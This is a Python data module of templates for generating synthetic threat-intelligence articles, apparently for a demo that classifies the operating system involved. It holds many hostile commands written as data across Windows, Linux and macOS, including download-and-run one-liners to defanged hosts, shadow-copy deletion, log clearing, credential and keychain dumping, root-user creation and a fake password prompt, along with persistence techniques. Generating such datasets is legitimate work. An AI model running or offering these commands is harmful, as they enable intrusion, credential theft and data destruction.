r"""What shows an operating system in the demo's articles: commands, places, footholds and whole sentences.

`{n}` is a made-up name in lower case, `{N}` one with a capital. What the unseen part names (tools,
paths, files) stands nowhere in the seen part, so that a test article can hold what training never showed.
"""

from dataclasses import dataclass

KINDS = ("commands", "places", "footholds", "sentences")


@dataclass(frozen=True)
class Cues:
    """How one operating system shows; the first three kinds stand in a frame, the last for itself."""

    commands: tuple[str, ...]
    places: tuple[str, ...]
    footholds: tuple[str, ...]
    sentences: tuple[str, ...]


SEEN_FRAMES = {
    "commands": (
        "The operators then ran `{cue}` and waited.",
        "Shortly afterwards the command {cue} was recorded.",
        "The next stage issues `{cue}` before it goes quiet.",
        "Logs of that hour hold one more line, {cue}, and nothing else.",
        "With {cue} the intruders prepared the next step.",
    ),
    "places": (
        "The payload was recovered from {cue}.",
        "A second copy was dropped to {cue}.",
        "Its configuration lies in {cue}.",
        "The artefact {cue} was present on several machines.",
        "Responders found {cue}, written minutes after the first login.",
    ),
    "footholds": (
        "Persistence comes from {cue}.",
        "To survive a restart, the malware relies on {cue}.",
        "The implant returns through {cue}.",
        "The foothold was {cue}, set up on the first day.",
    ),
    "sentences": ("{cue}",),
}
UNSEEN_FRAMES = {
    "commands": (
        "An analyst will recognise `{cue}` in the recorded session.",
        "What follows is {cue}, repeated on each machine.",
        "The playbook of the crew lists `{cue}` as step four.",
    ),
    "places": (
        "Look for {cue} when you search for this family.",
        "The timestamps of {cue} had been forged.",
        "What the crew left behind is {cue}, and little more.",
    ),
    "footholds": (
        "It keeps its place with {cue}.",
        "What brings the tool back is {cue}.",
        "The way back in was {cue}.",
    ),
    "sentences": ("{cue}",),
}

_WINDOWS = Cues(
    commands=(
        r"rundll32.exe C:\ProgramData\{n}.dll,{N}",
        r"schtasks /create /tn {N} /tr C:\Users\Public\{n}.exe /sc minute",
        r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v {N} /d %APPDATA%\{n}.exe",
        "vssadmin delete shadows /all /quiet",
        "net localgroup administrators {n} /add",
        "wmic process call create {n}.exe",
        "powershell -nop -w hidden -file {n}.ps1",
        r"sc create {N} binPath= C:\Windows\Temp\{n}.exe start= auto",
        "certutil -urlcache -split -f hxxp://{n}.invalid/a.txt {n}.exe",
        "cmd.exe /c ping -n 5 127.0.0.1 & del {n}.exe",
        "nltest /domain_trusts",
        "tasklist /svc",
        "wevtutil cl Security",
        "nbtstat -A {n}",
    ),
    places=(
        r"C:\ProgramData\{N}\{n}.dll",
        r"%APPDATA%\{N}\{n}.exe",
        r"C:\Windows\System32\{n}.dll",
        r"C:\Users\Public\Libraries\{n}.cpl",
        r"%TEMP%\{n}.vbs",
        r"C:\inetpub\wwwroot\{n}.aspx",
        r"C:\Windows\Temp\{n}.bat",
        r"C:\Users\{n}\AppData\Roaming\{N}.lnk",
        r"\\{n}\ADMIN$\{n}.exe",
        r"HKLM\SOFTWARE\Classes\{N}",
    ),
    footholds=(
        "a value under the Run key of the current user's hive",
        "a task in the Task Scheduler that starts at every logon as SYSTEM",
        "a new service registered with the Service Control Manager",
        "a WMI event subscription with a VBScript consumer",
        "a shortcut placed in the Start Menu's Startup folder",
        "a hijacked COM object registered under a CLSID",
        "a DLL that a signed program side-loads from its own folder",
        "a Winlogon Userinit value that points at the loader",
    ),
    sentences=(
        "Credentials were dumped from the memory of lsass.exe and carried out in a file with a harmless name.",
        "The lure is a shortcut with the .lnk ending whose icon imitates a PDF.",
        "Before it encrypts, the locker removes the volume shadow copies and stops SQL Server and Exchange.",
        "The loader patches AMSI in memory and switches off ETW, so that its .NET assembly leaves few traces.",
        "Event ID 4624 with logon type 10 shows that the intruder came in by Remote Desktop.",
        "The payload is a 64-bit PE file that resolves its imports, VirtualAlloc among them, by a hash of the name.",
        "An Excel macro writes the first stage and hands it to wscript.exe.",
        "Kerberoasting gave the crew the password of a service account in Active Directory.",
        "The ransom note appears on the desktop of every Windows Server in the domain.",
        "The operators added Microsoft Defender exclusions for the whole system drive.",
        "The stealer opens browser passwords with DPAPI and reads the Windows Credential Manager.",
        "The implant lives in explorer.exe, where it was put by process hollowing.",
    ),
)
_WINDOWS_UNSEEN = Cues(
    commands=(
        "regsvr32 /s /u /i:{n}.sct scrobj.dll",
        "bcdedit /set recoveryenabled No",
        "mshta hxxps://{n}.invalid/{n}.hta",
        "bitsadmin /transfer {N} hxxps://{n}.invalid/{n} {n}.cab",
        "dsquery computer -limit 0",
        r"icacls C:\{N} /grant Everyone:F /T",
        "msiexec /q /i {n}.msi",
    ),
    places=(
        r"C:\PerfLogs\{n}.xll",
        r"%LOCALAPPDATA%\{N}\{n}.ocx",
        r"C:\$Recycle.Bin\{n}.scr",
        r"%SystemRoot%\SysWOW64\drivers\{n}.sys",
        r"HKEY_USERS\.DEFAULT\Environment\{N}",
    ),
    footholds=(
        "an Image File Execution Options entry that names it as debugger",
        "a library listed in AppInit_DLLs",
        "a password filter loaded into the Local Security Authority",
        "a port monitor loaded by the print spooler",
        "a Group Policy object that hands it to every workstation of the forest",
    ),
    sentences=(
        "The file NTDS.dit was copied from a domain controller together with the SYSTEM hive.",
        "The dropper walks past User Account Control through fodhelper and comes back with high integrity.",
        "Prefetch files and the Amcache give the time of the first run.",
        "The installer checks for Windows 10 build 19041 and quits on anything older.",
        r"Strings in the sample name NtCreateThreadEx and a pipe of the form \\.\pipe\{n}.",
        "The locker was pushed to every workstation with PsExec.",
    ),
)
_LINUX = Cues(
    commands=(
        "chmod 755 /dev/shm/.{n}; nohup /dev/shm/.{n} &",
        "systemctl enable --now {n}.service",
        "wget -q hxxp://{n}.invalid/{n}.sh -O- | bash",
        "insmod /lib/modules/{n}.ko",
        "echo '* * * * * root /usr/sbin/{n}' >> /etc/cron.d/{n}",
        "iptables -I INPUT -p tcp --dport 4444 -j ACCEPT",
        "usermod -aG sudo {n}",
        "cat /etc/shadow",
        "setenforce 0",
        "echo /usr/lib64/{n}.so > /etc/ld.so.preload",
        "journalctl --vacuum-time=1s",
        "cat /proc/1/cgroup",
        "useradd -o -u 0 {n}",
        "yum -y install gcc kernel-devel",
    ),
    places=(
        "/etc/cron.d/{n}",
        "/usr/lib/systemd/system/{n}.service",
        "/dev/shm/.{n}",
        "/lib/x86_64-linux-gnu/lib{n}.so",
        "/var/spool/cron/root",
        "/etc/ld.so.preload",
        "/root/.ssh/authorized_keys",
        "/var/www/html/{n}.php",
        "/usr/sbin/{n}d",
        "/var/lib/docker/overlay2/{n}",
    ),
    footholds=(
        "a systemd unit that restarts the daemon whenever it is stopped",
        "a line in root's crontab",
        "a shared object named in ld.so.preload",
        "a key appended to root's authorized_keys",
        "a rogue PAM module that accepts a master password",
        "a loadable kernel module, a .ko file that hides its own processes",
        "an entry in rc.local",
        "a backdoored sshd put in the place of the distribution's own",
    ),
    sentences=(
        "The miner ends rival processes by reading /proc and renames itself to look like a kworker thread.",
        "The backdoor is a statically linked ELF file for x86-64 and ARM.",
        "Several of the machines were servers with Ubuntu 22.04 and an exposed SSH port.",
        "The rootkit hooks getdents64 so that its files do not appear in directory listings.",
        "Logins are harvested from /var/log/auth.log.",
        "The botnet spreads between Linux hosts by guessing SSH passwords.",
        "From a privileged container it writes to the release_agent of the host's cgroup and escapes.",
        "The installer looks for yum or apt and fetches the package that fits the distribution.",
        "SELinux is switched to permissive mode before the second stage is unpacked.",
        "A flaw in pkexec made the intruders root on the CentOS servers.",
        "The wiper runs dd over /dev/sda after it has unmounted the ext4 volumes.",
        "The encryptor walks the mounts of the Red Hat hosts and skips /sys and /proc.",
    ),
)
_LINUX_UNSEEN = Cues(
    commands=(
        "auditctl -e 0",
        "modprobe {n}",
        "chattr +i /usr/bin/{n}",
        "nsenter -t 1 -m -u sh",
        "dpkg -i {n}.deb",
        "ss -tlnp",
        "ufw disable",
    ),
    places=(
        "/etc/init.d/{n}",
        "/etc/profile.d/{n}.sh",
        "/etc/udev/rules.d/99-{n}.rules",
        "/boot/{n}.img",
        "/run/user/0/{n}",
    ),
    footholds=(
        "a udev rule that fires when a network card appears",
        "an eBPF program attached to the XDP hook",
        "an XDG autostart entry of the GNOME session",
        "a dracut hook inside the initramfs",
        "a script slipped into update-motd",
    ),
    sentences=(
        "The sample was built against glibc 2.17 and does not start on Alpine, which has musl.",
        "Its loader uses memfd_create and fexecve, so that no file is ever written.",
        "Debian and Rocky hosts alike were found with the trojanised package.",
        "It becomes root through a flaw in sudoedit and clears wtmp and lastlog afterwards.",
        "The daemon listens on a raw AF_PACKET socket and wakes when a magic packet arrives.",
        "The module is compiled on the victim with DKMS.",
    ),
)
_MACOS = Cues(
    commands=(
        "osascript -e 'display dialog \"{N} needs your password\" with hidden answer'",
        "launchctl load -w ~/Library/LaunchAgents/com.{n}.agent.plist",
        "xattr -d com.apple.quarantine /Applications/{N}.app",
        "hdiutil attach /tmp/{n}.dmg",
        "spctl --master-disable",
        "defaults write com.apple.{n} LSUIElement 1",
        "security dump-keychain -d login.keychain",
        "dscl . -create /Users/{n} IsHidden 1",
        "system_profiler SPHardwareDataType",
        "sw_vers -productVersion",
        "tccutil reset AppleEvents",
        "pbpaste > /private/tmp/{n}",
        "killall NotificationCenter",
        "ditto -c -k ~/Library/Keychains /private/tmp/{n}.zip",
    ),
    places=(
        "~/Library/LaunchAgents/com.{n}.plist",
        "/Library/LaunchDaemons/com.{n}.helper.plist",
        "/Applications/{N}.app/Contents/MacOS/{n}",
        "/private/tmp/.{n}",
        "/private/var/folders/{n}/T/{n}",
        "~/Library/Application Support/{N}",
        "~/Library/Keychains/{n}.keychain-db",
        "/Volumes/{N}/{N}.app",
        "~/Library/Safari/{n}.db",
        "/Library/PrivilegedHelperTools/com.{n}.helper",
    ),
    footholds=(
        "a LaunchAgent whose property list runs it at login",
        "a LaunchDaemon with the KeepAlive key",
        "a login item added through System Events",
        "a privileged helper tool that the fake installer has blessed",
        "a dylib loaded through DYLD_INSERT_LIBRARIES",
        "a Dock entry that was swapped for a copy of the app",
        "an AppleScript applet dressed up as an update",
        "a .plist that launchd reads at every boot",
    ),
    sentences=(
        "The installer is a .dmg disk image that asks the victim to drag the app to the Applications folder.",
        "Gatekeeper does not object, because the bundle carries a valid Developer ID and was notarized by Apple.",
        "The stealer shows a fake password prompt and unlocks the login keychain with what is typed.",
        "The payload is a Mach-O universal binary with slices for Intel and Apple silicon.",
        "TCC is bypassed by injecting into an app that already has Full Disk Access.",
        "Victims were told to right-click the app and choose Open, which walks around Gatekeeper.",
        "The sample reads the Safari cookies and the Notes database of the MacBook's owner.",
        "Four of the victims were developers with MacBooks who had taken part in a fake interview.",
        "The implant is written in Swift and Objective-C and talks to the Cocoa frameworks.",
        "XProtect got a rule for the family in the same week, and Apple revoked the certificate.",
        "The app needs macOS Ventura or later and exits on older releases.",
        "A fake meeting app, signed for the Mac, carries the stealer in its Contents folder.",
    ),
)
_MACOS_UNSEEN = Cues(
    commands=(
        "codesign --force --deep -s - {N}.app",
        "screencapture -x /Users/Shared/{n}.png",
        "csrutil status",
        "installer -pkg {n}.pkg -target /",
        "mdfind kMDItemKind == {n}",
        "ioreg -rd1 -c IOPlatformExpertDevice",
        "networksetup -setwebproxy Wi-Fi {n}.invalid 8080",
    ),
    places=(
        "/Users/Shared/.{n}",
        "/Library/Extensions/{N}.kext",
        "~/Library/Containers/com.{n}.app",
        "/Library/Scripts/{N}.scpt",
        "/System/Volumes/Data/{n}.dylib",
    ),
    footholds=(
        "a rule for emond",
        "a Spotlight importer",
        "a LoginHook in the preferences of loginwindow",
        "a Quick Look generator inside the app bundle",
        "an authorization plug-in in SecurityAgentPlugins",
    ),
    sentences=(
        "System Integrity Protection keeps the loader out of the system volume, so that it lives in the user's home.",
        "The script was compiled as run-only with osacompile, which makes analysis harder.",
        "The bundle's Info.plist sets Sonoma as the oldest release and hides the icon.",
        "A pop-up imitates iCloud and asks for the Apple ID.",
        "The trojanised Xcode project runs its stage whenever a developer builds.",
        "Traces of the download were in QuarantineEventsV2 and in the unified log.",
    ),
)

SEEN_CUES = {"Windows": _WINDOWS, "Linux": _LINUX, "MacOS": _MACOS}
UNSEEN_CUES = {"Windows": _WINDOWS_UNSEEN, "Linux": _LINUX_UNSEEN, "MacOS": _MACOS_UNSEEN}
SPOKEN = {"Windows": "Windows", "Linux": "Linux", "MacOS": "macOS"}
"""How an article's prose writes the labels."""
